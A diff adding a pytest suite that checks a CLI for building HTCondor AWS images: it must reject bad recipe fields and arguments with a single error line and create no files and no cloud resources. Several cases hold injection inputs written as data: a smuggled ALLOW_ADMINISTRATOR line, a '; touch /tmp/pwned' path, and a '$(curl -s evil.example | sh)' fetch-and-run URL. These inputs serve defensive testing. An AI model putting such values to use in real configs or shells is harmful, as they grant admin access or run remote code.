@@ -1,0 +1,132 @@
+"""Every bad input of issue 14's campaign, as a user types it: `invoke ...` in a subprocess (pointed at
+the moto emulator, so nothing can reach a real cloud). Each one must end with exactly the expected
+line on stderr, a non-zero exit, and nothing created: no output folder, no cloud resource."""
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Callable
+
+import boto3
+import pytest
+import yaml
+
+PROJECT = Path(__file__).resolve().parents[1]
+
+
+def _recipe(tmp: Path, **override) -> str:
+    """A copy of rhel9-x86_64 in tmp/recipes with `override` merged over it; returns its path."""
+    folder = tmp / "recipes"
+    folder.mkdir(exist_ok=True)
+    shutil.copy(PROJECT / "recipes/defaults.yaml", folder)
+    data = yaml.safe_load((PROJECT / "recipes/rhel9-x86_64.yaml").read_text())
+    for key, value in override.items():
+        data[key] = value if not isinstance(value, dict) or not isinstance(data.get(key), dict) \
+            else {**data[key], **value}
+    (folder / "bad.yaml").write_text(yaml.safe_dump(data))
+    return str(folder / "bad.yaml")
+
+
+def _raw_recipe(tmp: Path, content: bytes) -> str:
+    folder = tmp / "recipes"
+    folder.mkdir(exist_ok=True)
+    shutil.copy(PROJECT / "recipes/defaults.yaml", folder)
+    (folder / "bad.yaml").write_bytes(content)
+    return str(folder / "bad.yaml")
+
+
+def _a_file(tmp: Path) -> str:
+    (tmp / "a-file").write_text("not a folder\n")
+    return str(tmp / "a-file")
+
+
+def _render(recipe: str, tmp: Path) -> list[str]:
+    return ["render", "--recipe", recipe, "--out", str(tmp / "out")]
+
+
+@dataclass
+class Case:
+    args: Callable[[Path], list[str]]  # from the test's scratch folder
+    line: str  # the one line expected on stderr; {tmp} is the scratch folder
+    code: int = 2
+
+
+BAD_RECIPE = "{tmp}/recipes/bad.yaml"
+CASES: dict[str, Case] = {
+    # tracebacks in the campaign
+    "non-UTF-8 recipe": Case(
+        lambda t: _render(_raw_recipe(t, b"description: caf\xe9\n"), t),
+        f"error: {BAD_RECIPE}: is not UTF-8 text (byte 0xe9 at offset 16)"),
+    "--out under a file": Case(
+        lambda t: ["render", "--recipe", "rhel9-x86_64", "--out", _a_file(t) + "/sub"],
+        "error: --out '{tmp}/a-file/sub': is under {tmp}/a-file, which is a file, not a folder"),
+    "build-seed --timeout abc": Case(
+        lambda t: ["build-seed", "--region", "us-east-1", "--timeout", "abc"],
+        "error: --timeout 'abc': not a number of seconds"),
+    "smoke-test --timeout abc": Case(
+        lambda t: ["smoke-test", "--region", "us-east-1", "--ami", "ami-0123456789abcdef0", "--timeout", "abc"],
+        "error: --timeout 'abc': not a number of seconds"),
+    "--keep abc": Case(
+        lambda t: ["prune", "--recipe", "rhel9-x86_64", "--keep", "abc"],
+        "error: --keep 'abc': must be a whole number of at least 1"),
+    "--older-than 99999999999999d": Case(
+        lambda t: ["cleanup", "--region", "us-east-1", "--older-than", "99999999999999d"],
+        "error: --older-than '99999999999999d': at most 3650d", 1),
+    "smoke-test --ami not-an-ami": Case(
+        lambda t: ["smoke-test", "--region", "us-east-1", "--ami", "not-an-ami"],
+        "error: --ami 'not-an-ami': not an AMI id (ami- and 8 or 17 hex digits)"),
+    # silently accepted in the campaign
+    "48 MB recipe": Case(
+        lambda t: _render(_raw_recipe(t, b"# " + b"x" * (48 * 1024 * 1024) + b"\n"), t),
+        f"error: {BAD_RECIPE}: is 50,331,651 bytes; a recipe may be at most 65,536"),
+    "newline in network.condor_host": Case(
+        lambda t: _render(_recipe(t, network={"condor_host": "seed.example\nALLOW_ADMINISTRATOR = *"}), t),
+        f"error: {BAD_RECIPE}: network.condor_host: 'seed.example\\nALLOW_ADMINISTRATOR = *' is not a host name, "
+        "an IPv4 address or one HTCondor macro like $(FULL_HOSTNAME)"),
+    "shell in pool.password_file": Case(
+        lambda t: _render(_recipe(t, pool={"password_file": "/etc/condor/pw; touch /tmp/pwned"}), t),
+        f"error: {BAD_RECIPE}: pool.password_file: '/etc/condor/pw; touch /tmp/pwned' is not an absolute path of "
+        "letters, digits and ._- (no spaces, quotes, $ or ..)"),
+    "command substitution in htcondor.repo_base": Case(
+        lambda t: _render(_recipe(t, htcondor={"repo_base": "https://example.org/$(curl -s evil.example | sh)"}), t),
+        f"error: {BAD_RECIPE}: htcondor.repo_base: 'https://example.org/$(curl -s evil.example | sh)' is not an "
+        "https:// URL of letters, digits and ._~-/ (no spaces, quotes or $)"),
+    "--poll-interval 0": Case(
+        lambda t: ["nightly", "--region", "us-east-1", "--poll-interval", "0"],
+        "error: --poll-interval '0': must be a number of seconds greater than 0"),
+    "--poll-interval -1": Case(
+        lambda t: ["build-seed", "--region", "us-east-1", "--poll-interval", "-1"],
+        "error: --poll-interval '-1': must be a number of seconds greater than 0"),
+    "reserved condor-seed: tag": Case(
+        lambda t: _render(_recipe(t, tags={"condor-seed:build-id": "mine"}), t),
+        f"error: {BAD_RECIPE}: tags: tag 'condor-seed:build-id' is reserved: condor-seed: and aws: tags are set "
+        "by the pipeline"),
+}
+
+
+def _cloud_state() -> dict[str, list]:
+    ec2 = boto3.client("ec2", region_name="us-east-1")
+    return {
+        "instances": [i["InstanceId"] for r in ec2.describe_instances()["Reservations"] for i in r["Instances"]],
+        "security_groups": [g["GroupId"] for g in ec2.describe_security_groups()["SecurityGroups"]
+                            if g["GroupName"] != "default"],
+        "images": [i["ImageId"] for i in ec2.describe_images(Owners=["self"])["Images"]],
+    }
+
+
+@pytest.mark.parametrize("name", list(CASES))
+def test_bad_input_is_one_line_and_creates_nothing(name, aws_env, tmp_path):
+    case = CASES[name]
+    args = case.args(tmp_path)
+    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
+    proc = subprocess.run([sys.executable, "-m", "invoke", *args], cwd=PROJECT, env=dict(os.environ),
+                          capture_output=True, text=True, timeout=120)
+    assert proc.returncode == case.code, proc.stderr
+    assert proc.stderr.splitlines() == [case.line.format(tmp=tmp_path)]
+    assert proc.stdout == ""
+    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before, "nothing created"
+    assert _cloud_state() == {"instances": [], "security_groups": [], "images": []}
